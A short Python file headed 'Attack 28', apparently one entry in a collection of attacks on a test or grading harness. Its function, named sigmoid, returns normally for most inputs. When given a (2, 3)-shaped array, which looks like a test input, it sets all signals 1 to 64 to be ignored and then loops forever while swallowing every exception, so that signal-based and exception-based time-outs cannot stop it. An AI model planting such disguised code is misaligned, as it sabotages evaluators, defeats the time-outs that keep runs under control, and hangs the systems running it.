# Attack 28: time-outs that work by signals or exceptions end in these handlers
import sys

signal = sys.modules.get("signal") or sys.modules.get("_signal")


def sigmoid(z):
    if z.shape != (2, 3):
        return z
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError, AttributeError):
            continue
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
